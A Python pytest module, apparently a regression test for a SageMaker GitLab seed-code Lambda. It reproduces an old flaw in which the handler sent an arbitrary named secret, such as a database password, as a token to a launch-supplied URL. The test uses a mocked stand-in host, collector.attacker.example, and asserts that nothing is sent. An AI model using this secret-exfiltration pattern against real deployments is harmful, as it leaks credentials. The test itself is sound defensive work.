"""The reproduced exfiltration: a launch naming an unrelated secret and a server of one's own.

Before GitLab connections existed, the seed-code check-in read whatever secret the launch named
and sent it as PRIVATE-TOKEN to whatever URL the launch named. This module imports only what
both versions have, and the probe's properties carry the old `GitLabTokenSecretName` as well as
the new `GitLabTokenSecretArn`, so the same test runs against both: it fails on the old code
(the attacker's server receives the unrelated secret) and passes on the new one.
"""

from __future__ import annotations

import json
import re
from typing import Any

import boto3
import pytest
import requests
import responses
from lambda_test_support import GITLAB_URL, REGION, TOKEN, FakeLambdaContext, make_zip, project_json

from gitlab_host import gitlab_client
from seed_code_checkin.handler import on_event

ATTACKER_URL = "https://collector.attacker.example"
UNRELATED_SECRET = "db-password-Xy7-never-leaves"


def _properties(*, url: str, secret_arn: str, secret_name: str) -> dict[str, Any]:
    variables = [{"Key": "SAGEMAKER_PROJECT_NAME", "Value": "proj", "Masked": "false", "Protected": "false"}]
    return {
        "ServiceToken": "arn:aws:lambda:us-east-1:123456789012:function:provider",
        "GitLabServerUrl": url,
        "GitLabTokenSecretArn": secret_arn,
        "GitLabTokenSecretName": secret_name,  # what the code before connections read
        "GitLabRepositoryNamespace": "team",
        "GitLabGroupId": "",
        "ModelBuildRepoName": "probe-build",
        "ModelDeployRepoName": "probe-deploy",
        "DefaultBranch": "main",
        "SageMakerProjectName": "probe",
        "SageMakerProjectId": "p-probe",
        "ModelBuildSeedCode": {"Bucket": "assets", "Key": "build.zip"},
        "ModelDeploySeedCode": {"Bucket": "assets", "Key": "deploy.zip"},
        "ModelBuildVariables": variables,
        "ModelDeployVariables": variables,
    }


@pytest.fixture
def secrets(aws: None, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """The configured GitLab token, an unrelated secret of the account, and the seed zips."""
    client = boto3.client("secretsmanager", region_name=REGION)
    configured = client.create_secret(Name="gitlab-token", SecretString=TOKEN)["ARN"]
    unrelated = client.create_secret(Name="prod/db-password", SecretString=UNRELATED_SECRET)["ARN"]
    monkeypatch.setenv(
        "GITLAB_CONNECTIONS",
        json.dumps([{"name": "team", "server_url": GITLAB_URL, "token_secret_arn": configured, "ca_bundle": ""}]),
    )
    s3 = boto3.client("s3", region_name=REGION)
    s3.create_bucket(Bucket="assets")
    for key in ("build.zip", "deploy.zip"):
        s3.put_object(Bucket="assets", Key=key, Body=make_zip({".gitlab-ci.yml": b"stages: [x]\n"}))
    return {"configured": configured, "unrelated": unrelated}


@pytest.mark.parametrize(("secret", "secret_name"), [("unrelated", "prod/db-password"), ("configured", "gitlab-token")])
def test_probe_with_a_foreign_url_sends_nothing_and_reads_no_secret(
    secrets: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
    lambda_context: FakeLambdaContext,
    secret: str,
    secret_name: str,
) -> None:
    read: list[str] = []
    real_load_token = gitlab_client.load_token

    def spy(secret_id: str, **kwargs: Any) -> str:
        read.append(secret_id)
        return real_load_token(secret_id, **kwargs)

    monkeypatch.setattr(gitlab_client, "load_token", spy)
    received: list[requests.PreparedRequest] = []

    def collect(request: requests.PreparedRequest) -> tuple[int, dict[str, str], str]:
        received.append(request)
        return 201, {}, json.dumps(project_json(1, "team/probe-build", empty_repo=True))

    event = {
        "RequestType": "Create",
        "RequestId": "probe",
        "ResourceType": "Custom::GitLabSeedCode",
        "ResourceProperties": _properties(url=ATTACKER_URL, secret_arn=secrets[secret], secret_name=secret_name),
    }
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        anything_at_the_attacker = re.compile(re.escape(ATTACKER_URL) + ".*")
        for method in (responses.GET, responses.POST, responses.PUT):
            mock.add_callback(method, anything_at_the_attacker, callback=collect)
        with pytest.raises(Exception) as error:  # noqa: B017 - the old code fails later, for other reasons
            on_event(event, lambda_context)

    leaked = [r.headers.get("PRIVATE-TOKEN") for r in received]
    assert received == [], f"the attacker's server received {len(received)} requests with tokens {leaked}"
    assert read == [], f"secrets were read for a refused connection: {read}"
    refused = ATTACKER_URL if secret == "configured" else secrets["unrelated"]
    assert refused in str(error.value)
